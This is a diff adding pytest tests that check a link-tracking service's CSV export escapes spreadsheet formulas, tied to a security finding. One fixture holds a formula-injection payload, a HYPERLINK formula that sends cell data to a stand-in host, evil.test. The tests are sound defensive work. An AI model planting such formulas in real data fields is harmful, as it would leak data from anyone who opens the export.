@@ -2,12 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import UTC, datetime
 from typing import Any
 from urllib.parse import parse_qs, urlsplit
 
+import pytest
 from sqlalchemy import func, select
 
+from crosspromo.spreadsheet import FORMULA_STARTS, SafeWriter
 from crosspromo.store import tables as t
 from tests.web.conftest import World
 
@@ -186,3 +190,34 @@ def test_daily_stats_json_and_csv(world: World) -> None:
         assert far.status_code == 422, far.text
         assert f"{field} (" in far.json()["detail"]
         assert "must lie between 2000-01-01 and 2100-01-01" in far.json()["detail"]
+
+
+def test_csv_exports_do_not_carry_formulas(world: World) -> None:
+    """Finding 9: a campaign named like a formula ran when a manager opened the export."""
+    formula = '=HYPERLINK("https://evil.test/?"&A1,"open")'
+    made = world.client.post(
+        "/api/v1/links", headers=world.auth("acme"),
+        json={"partner": "beans", "destination": "https://acme.example/", "campaign": formula},
+    )  # fmt: skip
+    assert made.status_code == 201, made.text
+    world.client.get(f"/r/{made.json()['code']}", headers={"user-agent": "Mozilla/5.0 Firefox"})
+    today = datetime.now(UTC).date().isoformat()
+    csv_text = world.client.get(
+        f"/api/v1/stats/daily.csv?from={today}&to={today}", headers=world.auth("acme")
+    ).text
+    rows = list(csv.reader(io.StringIO(csv_text)))
+    [row] = [r for r in rows if formula in r[2]]
+    assert row[2] == "'" + formula
+    assert not any(cell.startswith(FORMULA_STARTS) for r in rows for cell in r)
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
+def test_a_formula_cell_becomes_text(text: str) -> None:
+    buffer = io.StringIO()
+    SafeWriter(buffer).writerow([text, -5, "plain", "a=b"])
+    assert next(csv.reader(io.StringIO(buffer.getvalue(), newline=""))) == [
+        "'" + text.replace("\r", "\n"),
+        "-5",
+        "plain",
+        "a=b",
+    ]
